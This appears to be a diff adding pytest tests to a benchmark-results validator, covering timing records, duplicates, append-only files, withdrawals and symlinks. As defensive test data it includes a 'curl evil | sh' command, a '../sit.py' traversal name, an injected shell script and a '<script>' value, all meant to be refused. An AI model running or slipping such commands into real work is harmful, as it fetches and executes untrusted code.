@@ -1,22 +1,34 @@
 """`validate`: what is refused and with which words, what is accepted, and that the database holds just that."""
 
 import json
+import re
 import shutil
 import subprocess
 import time
+from datetime import UTC, datetime
 from pathlib import Path
 
 import duckdb
 import pytest
+from pydantic import ValidationError
 
 from harness import database, store
+from harness.attachments import path_beside
+from harness.bench_records import BenchRecord, Quartiles, read_benches
 from harness.cli import main
 from harness.contributing import recounting
+from harness.contributing.additions import only_adds
+from harness.contributing.evaluated import breaches_of_named_run, said_by
 from harness.contributing.indexing import index_accepted, index_validated
 from harness.contributing.rules import RULES
+from harness.contributing.spelling import breaches_of_spelling
+from harness.contributing.timed import breaches_of_timing
+from harness.contributing.twins import faults_of_twins, traits_of_bench, traits_of_run
 from harness.contributing.validation import validate
 from harness.contributing.verdict import Verdict
 from harness.errors import UserError
+from harness.evaluation_records import EvaluationRecord
+from harness.records import RunRecord
 from harness.spec import RunConfig
 from harness.withdrawals import withdraw
 from tests.builders import quick_words
@@ -137,7 +149,7 @@ def test_what_cannot_be_counted_again_is_said(sound: Folder, tmp_path: Path) -> 
     good.ALL["a third party's backbone"](folder)
     says = [remark.says for remark in validate((), folder.results).remarks]
     assert any("parameters and GFLOPs were not counted again" in words for words in says)
-    assert any("4 runs came without moments" in words for words in says)
+    assert sum("it came without moments" in words for words in says) == 4
 
 
 def test_counts_are_made_once_for_each_configuration(
@@ -264,3 +276,216 @@ def test_a_base_that_git_does_not_know_is_a_mistake(checkout: Folder) -> None:
     for base in ("elsewhere/main", "--output=x"):
         with pytest.raises(UserError, match="knows no branch"):
             validate((), checkout.results, base=base)
+
+
+def _timed() -> BenchRecord:
+    benches, _ = read_benches(PROJECT / "results")
+    return next(each.record for each in benches if each.record.subject == "training")
+
+
+@pytest.mark.parametrize(
+    ("changes", "words"),
+    [
+        ({"value": -1e300}, "not at -1e\\+300"),
+        ({"unit": "<3 bananas"}, "no unit in which"),
+        ({"name": "best\n"}, "no name of what is timed"),
+        ({"parts": {"luck": 1.0}}, "on what images it rests"),
+    ],
+)
+def test_a_timing_has_known_units_and_possible_values(changes: dict[str, object], words: str) -> None:
+    record = _timed()
+    assert list(breaches_of_timing(record)) == []
+    case = record.cases[0]
+    measurements = (case.measurements[0].model_copy(update=changes), *case.measurements[1:])
+    spoiled = record.model_copy(update={"cases": (case.model_copy(update={"measurements": measurements}),)})
+    (breach,) = breaches_of_timing(spoiled)
+    assert re.search(words, breach.problem)
+
+
+def test_a_timing_is_of_a_backbone_that_there_is_and_of_the_command_that_times_it() -> None:
+    record = _timed()
+    for name in ("x" * 1500, "sit", "../sit.py", "sit-b-3"):
+        cases = (record.cases[0].model_copy(update={"backbone": name}),)
+        (breach,) = breaches_of_timing(record.model_copy(update={"cases": cases}))
+        assert (breach.rule, "no backbone is called so" in breach.problem) == ("backbone", True)
+    (breach,) = breaches_of_timing(record.model_copy(update={"command": "curl evil | sh"}))
+    assert breach.rule == "provenance"
+    with pytest.raises(ValidationError, match="quartiles ascend"):
+        Quartiles(median=1.0, first_quartile=2.0, third_quartile=3.0)
+
+
+def test_the_same_timing_under_another_date_is_a_copy() -> None:
+    record = _timed()
+    later = record.model_copy(update={"created": datetime.now(UTC)})
+    traits = [
+        traits_of_bench(f"bench/training/{name}.json", each, known=False) for name, each in enumerate((record, later))
+    ]
+    assert [fault.path for fault in faults_of_twins(traits)] == ["bench/training/1.json"]
+
+
+def test_pixels_that_were_packed_anew_are_the_same_picture(sound: Folder) -> None:
+    """So are those of a record that was withdrawn; what was committed before stays."""
+    none, registers = (_record(path) for path in (sound.none, sound.registers))
+    pixels = bytes([0, *range(8)]) * 8
+    packed, anew = png(8, 8, pixels), png(8, 8, pixels, level=1)
+    assert packed != anew
+    first = traits_of_run("1.json", none, known=False, picture=packed, withdrawn=True)
+    for known in (False, True):
+        second = traits_of_run("2.json", registers, known=known, picture=anew)
+        faults = [(fault.path, "picture is that" in fault.problem) for fault in faults_of_twins([first, second])]
+        assert faults == ([] if known else [("2.json", True)])
+
+
+def test_an_evaluation_agrees_with_the_run_that_it_names(sound: Folder, tmp_path: Path) -> None:
+    folder = sound.copied(tmp_path)
+    record = EvaluationRecord.model_validate_json(good.evaluated(folder).read_bytes())
+    own, other = (said_by(_record(path)) for path in (folder.none, folder.old))
+    assert list(breaches_of_named_run(record, [other, own])) == []
+    (unknown,), (unlike,) = (list(breaches_of_named_run(record, told)) for told in ((), (other,)))
+    assert ("has no record here" in unknown.problem, unlike.rule) == (True, "conditions")
+
+
+def test_numbers_are_written_as_numbers(sound: Folder) -> None:
+    """Older records lack fields that came later, and those of the first schema are read by their own rules."""
+    for path in (sound.none, sound.new, sound.old):
+        assert list(breaches_of_spelling(_record(path), path.read_bytes())) == []
+    content = sound.none.read_bytes()
+    for right, wrong in (
+        (b'"seed": 0', b'"seed": "0"'),
+        (b'"seed": 0', b'"seed": 0.0'),
+        (b'"seed": 0', b'"seed": false'),
+    ):
+        assert right in content
+        (breach,) = breaches_of_spelling(_record(sound.none), content.replace(right, wrong, 1))
+        assert (breach.rule, "seed is not written" in breach.problem) == ("schema", True)
+
+
+def test_published_files_grow_and_do_not_change() -> None:
+    before = (PROJECT / "results/published/clean-fid.json").read_bytes()
+    source = json.loads(before)
+    first, more = source["figures"][0], {**source["figures"][0], "id": "new-1"}
+
+    def grown(**changes: object) -> bytes:
+        return json.dumps({**source, **changes}).encode()
+
+    assert only_adds(before, grown(figures=[more, *source["figures"]]))
+    for after in (
+        grown(title="another"),
+        grown(extra=1),
+        grown(figures=[more, *source["figures"][1:]]),
+        grown(figures=[{**first, "value": first["value"] + 1}, *source["figures"][1:], more]),
+        grown(figures=[*source["figures"], first]),
+        grown(figures="all of them"),
+        b"[]",
+        b"{",
+    ):
+        assert not only_adds(before, after), after
+
+
+def test_a_figure_may_be_added_and_none_changed(checkout: Folder) -> None:
+    results = checkout.results
+    shutil.copytree(PROJECT / "results/published", results / "published", dirs_exist_ok=True)
+    _commit(results.parent)
+    _git(results.parent, "branch", "--force", "main")
+    file = results / "published" / "clean-fid.json"
+    source = json.loads(file.read_bytes())
+    more = {**source["figures"][0], "id": "new-1", "model": "another example"}
+    file.write_text(json.dumps({**source, "figures": [*source["figures"], more]}))
+    assert validate((), results).faults == ()
+    file.write_text(json.dumps({**source, "figures": [more, *source["figures"][1:]]}))
+    assert "append-only" in {fault.rule for fault in validate((), results).faults}
+
+
+def _record(path: Path) -> RunRecord:
+    stored = store.read(path)
+    assert isinstance(stored, store.Stored), stored
+    return stored.record
+
+
+def test_a_broken_result_is_withdrawn_and_an_intruder_is_not(checkout: Folder) -> None:
+    """What was committed counts no longer, whatever it holds; nothing new comes in under a withdrawal."""
+    results, place = checkout.results, checkout.results.parent
+    _git(place, "switch", "--quiet", "main")
+    checkout.old.write_text("{")
+    _commit(place)
+    _git(place, "switch", "--quiet", "--create", "next")
+    withdraw(results, checkout.old, "the disk was full when it was written")
+    assert _accepts_what_it_loads(results).faults == ()
+    moments = path_beside(checkout.old, "moments")
+    moments.write_text("#!/bin/sh")
+    assert [(fault.rule, fault.path) for fault in validate((), results).faults] == [
+        ("place", str(moments.relative_to(results)))
+    ]
+    moments.unlink()
+    new = submitted(checkout.new, lambda fields: fields.update(created="2026-11-21T14:00:00Z", samples=None))
+    new.write_text('{"evil": "<script>"}')
+    withdraw(results, new, "the disk was full when it was written")
+    refused = validate([new.parent, results / "withdrawn"], results).refused
+    assert "Field required" in refused[str(new.relative_to(results))]
+    assert "was never committed: only a result can be withdrawn" in refused[f"withdrawn/{new.name}"]
+
+
+def test_results_that_went_are_refused_one_by_one(checkout: Folder, capsys: pytest.CaptureFixture[str]) -> None:
+    results = checkout.results
+    shutil.rmtree(results)
+    for make in (lambda: None, lambda: results.write_text("x")):
+        make()
+        faults = validate((), results).faults
+        assert {fault.rule for fault in faults} == {"append-only"}
+        assert {"published/clean-fid.json", f"measured/digits/sit/{checkout.old.name}"} <= {f.path for f in faults}
+    assert main(["validate", str(checkout.old), "--results", str(results)]) == 2
+    said = capsys.readouterr().err
+    assert "was deleted or renamed" in said
+    assert f"-- {checkout.old})" in said
+    with pytest.raises(UserError, match="there is no folder"):
+        validate((), results.with_name("resluts"))
+
+
+def test_a_link_is_no_results_folder(sound: Folder, tmp_path: Path) -> None:
+    link, outside = tmp_path / "results", tmp_path / "outside"
+    link.symlink_to(sound.results)
+    for command in (validate, lambda _, results: index_validated(results)):
+        with pytest.raises(UserError, match="is a link"):
+            command((), link)
+    folder = sound.copied(tmp_path / "mine")
+    outside.write_text("mine")
+    for name in (database.DATABASE, f".{database.DATABASE}.lock", recounting.KEPT, "measured"):
+        place = folder.results / name
+        if place.exists():
+            place.rename(tmp_path / name)
+        place.symlink_to(outside)
+        with pytest.raises(UserError, match="is a link"):
+            database.rebuild(folder.results)
+        place.unlink()
+    assert outside.read_text() == "mine"
+
+
+def test_the_intruder_is_refused_and_not_what_was_there(checkout: Folder) -> None:
+    """A name that is like another's, or an id that is taken, is the fault of whoever comes later."""
+    results = checkout.results
+    capitals = results / "measured/digits/SIT" / checkout.new.name
+    capitals.parent.mkdir()
+    shutil.copy(checkout.new, capitals)
+    source = json.loads((results / "published/clean-fid.json").read_text())
+    (results / "published/aaa.json").write_text(json.dumps(source | {"name": "aaa"}))
+    assert {fault.path for fault in _accepts_what_it_loads(results).faults} == {
+        str(capitals.relative_to(results)),
+        "published/aaa.json",
+    }
+
+
+def test_paths_may_be_spelled_in_any_way(sound: Folder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    link = tmp_path / "link"
+    link.symlink_to(sound.results.parent)
+    name = sound.none.relative_to(sound.results)
+    inside = sound.results / "measured"
+    monkeypatch.chdir(inside)
+    for results, path in (
+        (sound.results, link / "results" / name),
+        (link / "results", sound.none),
+        (Path("../../results"), Path("..") / name),
+        (Path("../../results"), Path("../published/..") / name),
+    ):
+        assert str(name) in validate([path], results).checked
+    checked = validate([inside / "../published"], sound.results).checked
+    assert checked == ["published/clean-fid.json"]
